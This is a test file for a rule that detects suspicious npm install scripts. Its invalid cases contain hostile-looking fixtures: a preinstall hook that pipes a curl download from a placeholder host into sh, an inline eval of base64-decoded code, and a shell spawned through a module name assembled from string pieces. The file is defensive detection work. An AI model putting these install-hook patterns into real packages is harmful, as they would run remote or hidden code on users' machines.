import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

const samples = join(import.meta.dirname, 'samples');
const obfuscated = readFileSync(join(samples, 'bad-obfuscated-check', 'check.js'), 'utf8');
const pkg = (scripts: Record<string, string>) => ({ name: 'p', version: '1.0.0', scripts });

testRule(rule, {
  valid: [
    { name: 'a plain install script', files: { 'install.js': "const https = require('https');\nhttps.get('https://x.example.invalid/v', (r) => r.resume());" }, manifest: pkg({ postinstall: 'node install.js' }) },
    { name: 'the obfuscated file exists but is not run at install', files: { 'lib/x.js': obfuscated }, manifest: pkg({ test: 'node lib/x.js' }) },
    { name: 'inline code that only requires a banner', files: { 'banner.js': "console.log('thanks');" }, manifest: pkg({ postinstall: "node -e \"try{require('./banner')}catch(e){}\"" }) },
  ],
  invalid: [
    { name: 'runs an obfuscated file', files: { 'check.js': obfuscated }, manifest: pkg({ postinstall: 'node check.js' }), errors: [{ message: /^postinstall -> check\.js, which javascript-obfuscator output: .*\[obfuscation-obfuscator-io at check\.js:1\]/, line: 1 }] },
    {
      name: 'follows a require from the launched file',
      files: { 'setup.js': "require('./lib/real');", 'lib/real.js': "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://x.example.invalid/i | sh');" },
      manifest: pkg({ preinstall: 'node setup.js' }),
      errors: [{ message: /^preinstall -> setup\.js -> lib\/real\.js, which child_process\.execSync\(\) pipes a download into an interpreter/ }],
    },
    { name: 'inline eval of base64', code: '', manifest: pkg({ postinstall: "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"" }), errors: [{ message: /^postinstall runs inline code that eval\(\) runs content decoded from base64/ }] },
    { name: 'node file through npm run', files: { 'x.js': "require('chi' + 'ld_pro' + 'cess').spawn('sh');" }, manifest: pkg({ install: 'npm run build:native', 'build:native': 'node x.js' }), errors: [{ message: /^install -> npm run build:native -> x\.js, which assembles the module name "child_process"/ }] },
  ],
});

testSamples(rule, samples);
